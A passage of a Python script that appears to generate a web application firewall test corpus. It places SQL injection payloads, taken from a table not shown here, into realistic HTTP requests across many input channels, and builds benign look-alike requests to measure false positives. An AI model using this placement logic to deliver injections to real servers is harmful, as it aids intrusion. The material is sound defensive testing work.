REAL = ["query", "form", "json", "cookie", "header:User-Agent", "header:Referer", "header:X-Forwarded-For",
        "param-name", "xml", "multipart-field", "multipart-filename", "path"]
RS = ["rs-query", "rs-form", "rs-json", "rs-xml", "rs-raw-body", "rs-header:User-Agent", "rs-header:Referer",
      "rs-header:X-Custom", "rs-cookie"]
RS_GET_PATHS = ["/", "/index.php", "/get", "/search", "/api/v1/items", "/cgi-bin/test.cgi"]
RS_POST_PATHS = ["/post", "/index.php", "/", "/search", "/api/v1/items", "/cgi-bin/test.cgi"]
RS_NAMES = ["foo", "var", "x", "test", "id", "arg1"]
RS_HEADERS = ["X-Custom-Header", "Foo", "X-Test", "X-Filter"]
JSON_FIELDS = ["name", "email", "bio", "title", "department", "notes", "search"]
COOKIE_NAMES = ["prefs", "lang", "cart_id", "theme", "last_search"]
PAGES = ["/admin/users", "/dashboard", "/users/search", "/settings/profile", "/reports"]
SPLIT = " \u00a6 "


class _Builder:
    """Request builders sharing one seeded random source (tokens, page numbers, header choice)."""

    def __init__(self, seed: int) -> None:
        self.rng = random.Random(seed)
        self.k = 0

    def token(self, n: int = 24) -> str:
        return "".join(self.rng.choice("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789")
                       for _ in range(n))

    def browser(self, accept: str = "application/json, text/plain, */*") -> dict[str, str]:
        self.k += 1
        return {"User-Agent": BROWSER_UAS[self.k % len(BROWSER_UAS)], "Accept": accept,
                "Accept-Language": self.rng.choice(["en-US,en;q=0.9", "en-GB,en;q=0.8", "de-DE,de;q=0.9,en;q=0.7"]),
                "Accept-Encoding": "gzip, deflate, br, zstd",
                "Referer": "https://app.example.com" + PAGES[self.k % len(PAGES)],
                "Sec-Fetch-Site": "same-origin", "Sec-Fetch-Mode": "cors", "Sec-Fetch-Dest": "empty",
                "Cookie": f"session={self.token()}; consent=accepted"}

    def suite(self) -> dict[str, str]:
        return {"User-Agent": SUITE_UA, "Accept": "*/*", "Connection": "keep-alive"}

    def page_params(self) -> list[tuple[str, str]]:
        return [("page", str(self.rng.randint(1, 9))), ("per_page", self.rng.choice(["20", "50", "100"]))]


def _q(value: str) -> str:
    return urllib.parse.quote(value, safe="")


def _xml_escape(value: str) -> str:
    return value.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def _json_u(value: str) -> str:
    """A JSON string literal with every character but letters and digits written as a \\u escape, and the
    first letter of each word as well."""
    out = []
    prev_alpha = False
    for ch in value:
        if ch.isascii() and ch.isalnum() and (prev_alpha or not ch.isalpha()):
            out.append(ch)
        else:
            out.append(f"\\u{ord(ch):04x}")
        prev_alpha = ch.isascii() and ch.isalpha()
    return '"' + "".join(out) + '"'


def _header_safe(value: str) -> bool:
    return not any(c in value for c in "\r\n\x00")


def _multipart(b: _Builder, fields: list[tuple[str, str]], file: tuple[str, str] | None) -> tuple[str, str]:
    boundary = "----WebKitFormBoundary" + b.token(16)
    parts = []
    for name, value in fields:
        parts.append(f"--{boundary}\r\nContent-Disposition: form-data; name=\"{name}\"\r\n\r\n{value}\r\n")
    if file is not None:
        field, filename = file
        fn = filename.replace("\"", "%22").replace("\r", "%0D").replace("\n", "%0A")
        parts.append(f"--{boundary}\r\nContent-Disposition: form-data; name=\"{field}\"; filename=\"{fn}\"\r\n"
                     "Content-Type: image/gif\r\n\r\nGIF89a\x01\x00\x01\x00\r\n")
    return "".join(parts) + f"--{boundary}--\r\n", f"multipart/form-data; boundary={boundary}"


def real_request(b: _Builder, place: str, p: str, i: int) -> dict[str, Any]:
    """The payload in one of our real routes' input places, as a browser or our SPA sends it."""
    h = b.browser()
    if place == "query":
        params = [("q", p), *b.page_params()]
        if i % 2:
            params.reverse()
        return {"method": "GET", "uri": "/api/users?" + urllib.parse.urlencode(params, quote_via=urllib.parse.quote,
                                                                                 safe=""), "body": "", "headers": h}
    if place == "form":
        h["Content-Type"] = "application/x-www-form-urlencoded"
        h["Accept"] = "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"
        h["Sec-Fetch-Mode"] = "navigate"
        h["Origin"] = "https://app.example.com"
        if i % 4 == 3:
            body = urllib.parse.urlencode([("csrf_token", b.token(32)), ("display_name", p), ("timezone", "UTC")])
            return {"method": "POST", "uri": "/me/settings", "body": body, "headers": h}
        body = urllib.parse.urlencode([("csrf_token", b.token(32)), ("q", p)])
        return {"method": "POST", "uri": "/admin/users/search", "body": body, "headers": h}
    if place == "json":
        h["Content-Type"] = "application/json"
        field = JSON_FIELDS[i % len(JSON_FIELDS)]
        doc: dict[str, Any] = {"name": "Dana Whitfield", "email": "dana@example.org", "department": "Finance"}
        doc[field] = p
        if i % 4 == 2:
            return {"method": "PATCH", "uri": "/api/users/42", "body": json.dumps(doc, ensure_ascii=False),
                    "headers": h}
        return {"method": "POST", "uri": "/api/users", "body": json.dumps(doc, ensure_ascii=False), "headers": h}
    if place == "cookie":
        name = COOKIE_NAMES[i % len(COOKIE_NAMES)]
        value = _q(p) if i % 2 or not p.isascii() else p.replace(";", "%3B")
        h["Cookie"] = f"session={b.token()}; consent=accepted; {name}={value}"
        return {"method": "GET", "uri": "/api/users?" + urllib.parse.urlencode(b.page_params()), "body": "",
                "headers": h}
    if place.startswith("header:"):
        name = place.split(":", 1)[1]
        if name == "Referer":
            h["Referer"] = "https://app.example.com/users?id=" + p
        else:
            h[name] = p
        return {"method": "GET", "uri": "/api/users?" + urllib.parse.urlencode(b.page_params()), "body": "",
                "headers": h}
    if place == "param-name":
        return {"method": "GET", "uri": f"/api/users?{_q(p)}=1&page={b.rng.randint(1, 9)}", "body": "",
                "headers": h}
    if place == "xml":
        h["Content-Type"] = "application/xml"
        body = (f"<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<user><name>Dana Whitfield</name>"
                f"<bio>{_xml_escape(p)}</bio><department>Finance</department></user>")
        return {"method": "POST", "uri": "/api/users", "body": body, "headers": h}
    if place == "multipart-field":
        body, ctype = _multipart(b, [("csrf_token", b.token(32)), ("q", p)], None)
        h["Content-Type"] = ctype
        return {"method": "POST", "uri": "/admin/users/search", "body": body, "headers": h}
    if place == "multipart-filename":
        body, ctype = _multipart(b, [("csrf_token", b.token(32))], ("avatar", p))
        h["Content-Type"] = ctype
        return {"method": "POST", "uri": "/api/users/42/avatar", "body": body, "headers": h}
    return {"method": "GET", "uri": "/api/users/" + _q(p), "body": "", "headers": h}


def rs_request(b: _Builder, place: str, p: str, i: int) -> dict[str, Any]:
    """The payload sent the way a WAF's regression suite sends it: any path, any parameter name."""
    h = b.suite()
    name = RS_NAMES[i % len(RS_NAMES)]
    get_path = RS_GET_PATHS[i % len(RS_GET_PATHS)]
    post_path = RS_POST_PATHS[i % len(RS_POST_PATHS)]
    if place == "rs-query":
        return {"method": "GET", "uri": f"{get_path}?{name}={_q(p)}", "body": "", "headers": h}
    if place == "rs-form":
        h["Content-Type"] = "application/x-www-form-urlencoded"
        return {"method": "POST", "uri": post_path, "body": urllib.parse.urlencode([(name, p)]), "headers": h}
    if place == "rs-json":
        h["Content-Type"] = "application/json"
        return {"method": "POST", "uri": post_path, "body": json.dumps({name: p}, ensure_ascii=False),
                "headers": h}
    if place == "rs-xml":
        h["Content-Type"] = "text/xml"
        body = f"<?xml version=\"1.0\"?><root><{name}>{_xml_escape(p)}</{name}></root>"
        return {"method": "POST", "uri": post_path, "body": body, "headers": h}
    if place == "rs-raw-body":
        h["Content-Type"] = "application/x-www-form-urlencoded"
        return {"method": "POST", "uri": post_path, "body": p, "headers": h}
    if place == "rs-cookie":
        h["Cookie"] = f"{name}={p}"
        return {"method": "GET", "uri": get_path, "body": "", "headers": h}
    header = place.split(":", 1)[1]
    if header == "X-Custom":
        header = RS_HEADERS[i % len(RS_HEADERS)]
    h[header] = p
    return {"method": "GET", "uri": get_path, "body": "", "headers": h}


def _special(b: _Builder, mode: str, p: str, i: int) -> list[tuple[str, dict[str, Any]]]:
    """The two requests of a payload with a mode of its own: (placement, request) for each."""
    if mode == "json-u":
        h = {**b.browser(), "Content-Type": "application/json"}
        field = JSON_FIELDS[i % len(JSON_FIELDS)]
        real = {"method": "POST", "uri": "/api/users", "headers": h,
                "body": f"{{\"name\":\"Dana Whitfield\",\"{field}\":{_json_u(p)}}}"}
        s = {**b.suite(), "Content-Type": "application/json"}
        rs = {"method": "POST", "uri": RS_POST_PATHS[i % len(RS_POST_PATHS)], "headers": s,
              "body": f"{{\"{RS_NAMES[i % len(RS_NAMES)]}\":{_json_u(p)}}}"}
        return [("json-unicode", real), ("rs-json-unicode", rs)]
    if mode == "name":
        safe = "[]$%"
        real = {"method": "GET", "uri": f"/api/users?{urllib.parse.quote(p, safe=safe)}=1&page=1", "body": "",
                "headers": b.browser()}
        s = b.suite()
        if i % 2:
            s["Content-Type"] = "application/x-www-form-urlencoded"
            rs = {"method": "POST", "uri": RS_POST_PATHS[i % len(RS_POST_PATHS)], "headers": s,
                  "body": f"{urllib.parse.quote(p, safe=safe)}=x&submit=1"}
        else:
            rs = {"method": "GET", "uri": f"{RS_GET_PATHS[i % len(RS_GET_PATHS)]}?{urllib.parse.quote(p, safe=safe)}"
                  "=x", "body": "", "headers": s}
        return [("param-name", real), ("rs-param-name", rs)]
    if mode == "json-obj":
        h = {**b.browser(), "Content-Type": "application/json"}
        uri = "/api/users" if i % 2 else "/api/users/search"
        real = {"method": "POST", "uri": uri, "body": p, "headers": h}
        s = {**b.suite(), "Content-Type": "application/json"}
        rs = {"method": "POST", "uri": RS_POST_PATHS[i % len(RS_POST_PATHS)], "body": p, "headers": s}
        return [("json-object", real), ("rs-json-object", rs)]
    # pair: a login split over two fields
    user, secret = p.split(SPLIT)
    h = b.browser()
    s = b.suite()
    if i % 2:
        h["Content-Type"] = "application/x-www-form-urlencoded"
        real = {"method": "POST", "uri": "/admin/login", "headers": h,
                "body": urllib.parse.urlencode([("csrf_token", b.token(32)), ("username", user), ("pass", secret)])}
        s["Content-Type"] = "application/json"
        rs = {"method": "POST", "uri": RS_POST_PATHS[i % len(RS_POST_PATHS)], "headers": s,
              "body": json.dumps({"user": user, "pass": secret})}
        return [("form-pair", real), ("rs-json-pair", rs)]
    h["Content-Type"] = "application/json"
    real = {"method": "POST", "uri": "/api/users", "headers": h,
            "body": json.dumps({"username": user, "pin": secret, "department": "Finance"})}
    s["Content-Type"] = "application/x-www-form-urlencoded"
    rs = {"method": "POST", "uri": RS_POST_PATHS[i % len(RS_POST_PATHS)], "headers": s,
          "body": urllib.parse.urlencode([("user", user), ("pass", secret)])}
    return [("json-pair", real), ("rs-form-pair", rs)]


def _placed(b: _Builder, entry: Entry, t: int, i: int) -> list[tuple[str, dict[str, Any]]]:
    if isinstance(entry, tuple):
        return _special(b, entry[1], entry[0], i)
    real_place = REAL[(t * 7 + i) % len(REAL)]
    rs_place = RS[(t * 5 + i) % len(RS)]
    if not _header_safe(entry):
        real_place = "query" if real_place.startswith(("header:", "cookie")) else real_place
        rs_place = "rs-query" if rs_place.startswith(("rs-header", "rs-cookie")) else rs_place
    return [(real_place, real_request(b, real_place, entry, i)), (rs_place, rs_request(b, rs_place, entry, i))]


def attacks() -> Iterator[dict[str, Any]]:
    b = _Builder(77)
    n = 0
    for t, (_rule, sub, entries) in enumerate(TITLES):
        for i, entry in enumerate(entries):
            payload = entry[0] if isinstance(entry, tuple) else entry
            for placement, req in _placed(b, entry, t, i):
                n += 1
                yield {**req, "id": f"{NAME}-sqli-{n:04d}", "category": "sqli", "sub": sub,
                       "placement": placement, "payload": payload}


# ---------------------------------------------------------------------------------------------------------------
# Benign: the same words, innocently.

CHAT = [
    "can someone select a date for the offsite? union square or the harbour, either works",
    "drop me a line when the release notes are ready",
    "I'll update the roadmap and delete the old slides from the drive",
    "the insert on page 3 of the brochure has a typo",
    "who's on call tonight? I'm out from 6",
    "we're ordering pizza, anyone want to join? order by 12 please",
    "sleep schedule is ruined after the launch week lol",
    "benchmark results for the new laptops are in the sheet",
    "case closed: the printer was just unplugged",
    "if the build fails again, then we roll back, else we ship",
    "Shannon O'Neil is joining the data team on Monday!",
    "the query planner picked a seq scan, adding an index on users(email) fixed it",
    "postgres 16 upgrade went fine, pg_dump took 40 minutes",
    "reminder: information schema docs are linked in the wiki, ask Priya",
    "the mysql client on the bastion is 8.0, use --ssl-mode=REQUIRED",
    "sql server licensing renewal is due in March",
    "Oracle sent the invoice for support again",
    "mongo atlas cluster is at 70% disk, should we archive old events?",
    "the report uses a CASE WHEN for the region buckets, it's fine",
    "please don't run DELETE without a WHERE on prod, use the admin tool",
    "1 = 1 meeting moved to Thursday",
    "it's a 50/50 chance the flight is delayed",
    "our NPS went from 41 to 47, nice",
    "rock 'n' roll night at the pub on Friday",
    "Tom's diner has a new menu - the benchmark for lunch spots",
    "can you merge my PR? it's just docs",
    "the match against Leeds is on the big screen at 8",
    "execute the plan, then we regroup",
    "shutdown of the old VPN is scheduled for the 14th",
    "waiting for delay compensation from the airline, fingers crossed",
    "hex colors for the brand: #1a2b3c and #ffcc00",
    "char limit on the title field is 120",
    "the concat of first and last name should use a space, not a dash",
    "sort by last name, then first name, please",
    "pricing: $10/mo or $100/yr (save 17%)",
    "Q3 goals: retention >= 90%, churn < 2%",
    "who left the 'test' tag on production?",
    "meeting notes -- see below",
    "the quote was \"good enough\" per the client",
    "I'd rather we don't alter the schedule this late",
    "the table in the kitchen is broken, facilities knows",
    "new hire: D'Angelo Russo, say hi in #general",
    "happy birthday Zo\u00eb! \U0001f382",
    "the benchmark suite is flaky on ARM, re-run it",
    "sleep(5) in that test is why it takes forever, can we mock the clock?",
    "our Postgres has pg_stat_statements on, check the slow queries there",
    "the SELECT in the nightly export takes 3 minutes now",
    "union rep meeting is at noon in room 4",
    "grant application deadline is Friday",
    "the waitlist has 230 people, that's a record",
    "I'm not sure if it's 'color' or 'colour' in the UK docs",
    "the backtick in markdown makes `code`, triple for blocks",
    "version 2.3.1 -- hotfix for the login page",
    "can we exec the quarterly review early?",
    "x-mas party poll: yes/no/maybe",
    "rename the channel to #data-eng please",
    "the dashboard shows null for users with no team",
    "set the default to 'all' or leave it empty?",
    "mind the gap between design and implementation",
    "distinct customers last month: 1,204",
    "having lunch at 1, back by 2",
    "any objections? if not, I'll go ahead",
    "love the new logo, it's 10/10",
    "the 'or' in that sentence should be 'and'",
    "the limit is 100 per page, offset works too",
    "count me in for the hike",
    "the sum of the invoices doesn't match the ledger",
    "database migration window: Sat 02:00-04:00 UTC",
    "who owns the sqlite file in the mobile app?",
    "please review the stored procedure docs before the DBA sync",
    "the between-sprints retro is cancelled",
    "we replaced the mysql.user grants with IAM auth",
    "Tim O'Reilly quote on the slide is a nice touch",
    "Jean-Luc's flight lands at 9:45",
    "nope, it's not a bug, it's a feature ;)",
    "the A/B test: variant B won by 3.2%",
    "we hit 2147483647 on the old int id column, migrating to bigint",
    "hash of the build artifact is 0x1f3a... in the release notes",
    "the spreadsheet uses IF(A2>10, \"high\", \"low\")",
    "let's not drop the ball on the security training",
]

BIOS_EXTRA = [
    "Data engineer. I write SQL for a living and sleep for fun.",
    "Former DBA (Oracle, SQL Server), now platform lead. Coffee & cycling.",
    "Marketing @ Example. Opinions are my own; typos are not.",
    "Mom of two, runner, recovering perfectionist",
    "I build dashboards: select * from insights;",
    "Customer success - ask me about onboarding!",
    "Backend dev, Node & Postgres. He/him.",
    "Analyst. Excel > everything (don't @ me)",
    "Product designer, previously at O'Hare Labs",
    "Living in St. John's, Newfoundland",
    "Union organizer, amateur chef",
    "Benchmarking coffee shops one city at a time",
    "Security engineer - yes, I read your logs",
    "Teacher turned developer. 'Always be learning.'",
    "MongoDB certified, PostgreSQL enthusiast",
    "Sales lead EMEA | Liverpool FC | dad jokes",
    "QA: if it can break, I'll find it",
    "Chess, climbing & the occasional 5k",
    "I drop in on every standup with snacks",
    "Part-time DJ, full-time accountant",
]

SEARCHES = [
    "o'brien", "O'Connor", "d'angelo", "mcdonald", "smith & sons", "union pacific", "select committee",
    "drop shipping", "sleep clinic", "benchmark capital", "case study", "order status", "delete account",
    "update billing", "insert coin", "table tennis", "information technology", "master bedroom",
    "waitfor", "shutdown procedure", "match day", "merge request", "execute order", "having fun",
    "group by region", "char siu", "hex key", "1=1", "50/50", "100%", "c++ developer", "c# developer",
    "node.js", "sql server dba", "postgresql", "mysql", "mongodb", "oracle cloud", "sqlite",
    "rock 'n' roll", "tom's diner", "st. mary's", "at&t", "procter & gamble", "l'or\u00e9al", "jos\u00e9",
    "m\u00fcller", "\u0142\u00f3d\u017a", "\u5317\u4eac", "--", "#hashtag", "@mention", "a-z", "\"exact phrase\"",
    "data engineer", "sales OR marketing", "name:ann", "dept:finance", "created:>2024-01-01",
    "email ends with example.org", "not active", "admin", "root", "test user", "like new",
    "between jobs", "is null", "true north", "if only", "then and now", "else where", "end of year",
    "version 2", "user guide", "schema design", "sys admin", "pg&e", "x'mas",
    "the 'quoted' word", "semi;colon", "slash/path", "back\\slash", "percent 20%", "plus+sign",
    "equals=sign", "ampersand & co", "tilde~", "caret^", "pipe | bar", "star*", "(parentheses)",
    "[brackets]", "{braces}", "<angle>", "backtick `code`", "2147483648", "1e309", "0x1F",
]

URLS = [
    "https://dev.mysql.com/doc/refman/8.0/en/information-schema.html",
    "https://www.postgresql.org/docs/current/functions-datetime.html#FUNCTIONS-DATETIME-DELAY",
    "https://learn.microsoft.com/en-us/sql/t-sql/language-elements/waitfor-transact-sql",
    "https://docs.oracle.com/en/database/oracle/oracle-database/19/lnpls/EXECUTE-IMMEDIATE-statement.html",
    "https://www.sqlite.org/lang_select.html",
    "https://www.mongodb.com/docs/manual/reference/operator/query/ne/",
    "https://owasp.org/www-community/attacks/SQL_Injection",
    "https://en.wikipedia.org/wiki/Union_Station_(Los_Angeles)",
    "https://www.example.com/search?q=o%27brien&page=2",
    "https://shop.example.com/products?sort=price&order=asc&limit=50",
    "https://news.example.org/2024/06/12/benchmark-results-are-in",
    "https://maps.example.com/place/St.+John's,+NL",
    "https://blog.example.com/select-the-right-database",
    "https://docs.example.com/api/v2/users#delete-a-user",
    "https://github.com/acme/reporting/blob/main/sql/monthly_revenue.sql",
    "https://stackoverflow.com/questions/1234567/case-when-in-where-clause",
    "https://cdn.example.net/img/logo.png?v=1.2.3",
    "https://calendar.example.com/event?id=4294967296",
    "https://jira.example.com/browse/DATA-1042",
    "https://example.com/a/b/c?x=1&y=2#section-3",
]

NAMES = [
    ("Shannon O'Neil", "Data"), ("D'Angelo Russo", "Sales"), ("Zo\u00eb Saldana-Perez", "Design"),
    ("Jean-Luc Picard", "Operations"), ("Tim O'Reilly", "Publishing"), ("Ren\u00e9e Z\u00fcrcher", "Finance"),
    ("Mar\u00eda Jos\u00e9 Garc\u00eda", "Legal"), ("Kevin McCallister", "Security"), ("Ng\u1ecdc Anh", "Support"),
    ("Siobh\u00e1n N\u00ed Bhriain", "HR"), ("Bobby Tables", "QA"), ("Anne-Marie d'Arcy", "Marketing"),
    ("Union Ltd. Procurement", "Purchasing"), ("Select Comfort Team", "Partners"), ("Max Sleep", "Research"),
    ("Case Western Alumni", "Events"), ("Dr. Who", "IT"), ("Chlo\u00eb O'Hara", "Data"),
    ("Lee \"Scratch\" Perry", "Music"), ("Amir Al-Farsi", "Engineering"), ("\u738b\u4f1f", "Engineering"),
    ("\u0418\u0432\u0430\u043d \u041f\u0435\u0442\u0440\u043e\u0432", "Support"), ("O'Malley & Sons", "Vendors"),
    ("Ben Char", "Facilities"), ("Grace Hopper", "Engineering"), ("Ada Lovelace", "Research"),
    ("Tom Delete", "Finance"), ("Sam Having", "Ops"), ("Jo Order", "Logistics"), ("Pat Insert", "Print"),
]

ADDRESSES = [
    "10 Union Street, Aberdeen AB11 6BD", "221B Baker St., London", "1 Infinite Loop, Cupertino, CA 95014",
    "Rue de l'\u00c9glise 4, 1000 Bruxelles", "Via dell'Orso 12, Roma", "12 O'Connell St, Dublin 1",
    "Apt. #4, 55 Select Ave", "PO Box 2147483648", "Calle 5 #12-34, Bogot\u00e1", "7 Sleepy Hollow Rd.",
    "500 Order Blvd, Suite 100", "Case Postale 12, 1211 Gen\u00e8ve", "3-1-1 Marunouchi, Chiyoda-ku, Tokyo",
    "Flat 2/3, 18 Merge Lane", "Kings Road & 5th", "Unit 7 - Table Bay Mall", "St. John's Wood, NW8",
    "1600 Amphitheatre Pkwy", "Haupt-Str. 1 (Hinterhaus)", "Building 'C', Floor 3",
]

UAS = BROWSER_UAS + [
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Mobile "
    "Safari/537.36",
    "ExampleApp/4.12.0 (iPhone; iOS 17.5; Scale/3.00)",
    "okhttp/4.12.0",
    "python-requests/2.32.3",
    "PostmanRuntime/7.39.0",
    "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "axios/1.7.2",
    "Dalvik/2.1.0 (Linux; U; Android 13; SM-S911B Build/TP1A.220624.014)",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:127.0) Gecko/20100101 Firefox/127.0",
]

SETTINGS = [
    "Dana (she/her)", "D. Whitfield", "Dana \u2013 Finance", "dana.w", "Dana W. [OOO until 5/6]",
    "Dana \U0001f334", "Whitfield, Dana", "Dana 'DW' Whitfield", "Dana @ Finance", "Dana (UTC+1)",
]


def benign() -> Iterator[dict[str, Any]]:
    b = _Builder(7707)
    n = yield from chat_and_bio(CHAT + BIOS_EXTRA, NAME)

    def rec(kind: str, placement: str, req: dict[str, Any]) -> dict[str, Any]:
        nonlocal n
        n += 1
        return {**req, "id": f"{NAME}-{kind}-{n:04d}", "category": "benign", "placement": placement}

    for i, term in enumerate(SEARCHES):
        yield rec("search", "query", real_request(b, "query", term, i))
        yield rec("search", "form", real_request(b, "form", term, i))
        yield rec("search", "rs-query", rs_request(b, "rs-query", term, i))
    for i, (person, dept) in enumerate(NAMES):
        h = {**b.browser(), "Content-Type": "application/json"}
        doc = {"name": person, "department": dept, "email": f"user{i}@example.org",
               "address": ADDRESSES[i % len(ADDRESSES)]}
        method, uri = ("PATCH", "/api/users/42") if i % 3 == 0 else ("POST", "/api/users")
        yield rec("profile", "json", {"method": method, "uri": uri, "headers": h,
                                      "body": json.dumps(doc, ensure_ascii=False)})
        yield rec("profile", "xml", real_request(b, "xml", person, i))
        yield rec("profile", "multipart-field", real_request(b, "multipart-field", person, i))
    for i, addr in enumerate(ADDRESSES):
        yield rec("address", "json", real_request(b, "json", addr, i))
        yield rec("address", "rs-form", rs_request(b, "rs-form", addr, i))
    for i, url in enumerate(URLS):
        h = {**b.browser(), "Content-Type": "application/json"}
        yield rec("url", "json", {"method": "POST", "uri": "/api/users", "headers": h,
                                  "body": json.dumps({"name": "Ann Lee", "website": url})})
        hr = b.browser()
        hr["Referer"] = url
        yield rec("url", "header:Referer", {"method": "GET", "uri": "/api/users?page=1", "body": "", "headers": hr})
        yield rec("url", "rs-json", rs_request(b, "rs-json", url, i))
    for i, ua in enumerate(UAS):
        hu = b.browser()
        hu["User-Agent"] = ua
        yield rec("ua", "header:User-Agent", {"method": "GET", "uri": "/api/users?page=2", "body": "",
                                               "headers": hu})
        yield rec("ua", "rs-header:User-Agent", {"method": "GET", "uri": RS_GET_PATHS[i % len(RS_GET_PATHS)],
                                                  "body": "", "headers": {**b.suite(), "User-Agent": ua}})
    cookie_values = ["en-GB", "dark", "compact", "last=o'brien", "tz=Europe/London", "cart=3 items",
                     "sort=name asc", "filter=dept:finance", "view=table", "beta=true", "region=eu-west-1",
                     "ref=newsletter_2024-06"]
    for i, value in enumerate(cookie_values):
        yield rec("cookie", "cookie", real_request(b, "cookie", value, i))
    for slug in ["42", "me", "ann-lee", "o'brien", "dana.whitfield", "2024-06-12", "team%20a",
                 "union-square-office", "select-committee", "12345678901234567890"]:
        yield rec("path", "path", {"method": "GET", "uri": "/api/users/" + _q(urllib.parse.unquote(slug)),
                                   "body": "", "headers": b.browser()})
    for i, value in enumerate(SETTINGS):
        yield rec("settings", "form", real_request(b, "form", value, 3 + 4 * i))
        yield rec("settings", "json", real_request(b, "json", value, 2 + 4 * i))
    for i, value in enumerate(SEARCHES[:30]):
        yield rec("rs", "rs-xml", rs_request(b, "rs-xml", value, i))
        yield rec("rs", "rs-header:X-Custom", rs_request(b, "rs-header:X-Custom", value, i))
    for i, fname in enumerate(["avatar.png", "me at the beach.jpg", "O'Neil headshot.jpg", "team (2024).gif",
                               "IMG_20240612_101500.jpg", "select.png"]):
        yield rec("upload", "multipart-filename", real_request(b, "multipart-filename", fname, i))


if __name__ == "__main__":
    print_records(attacks(), benign())
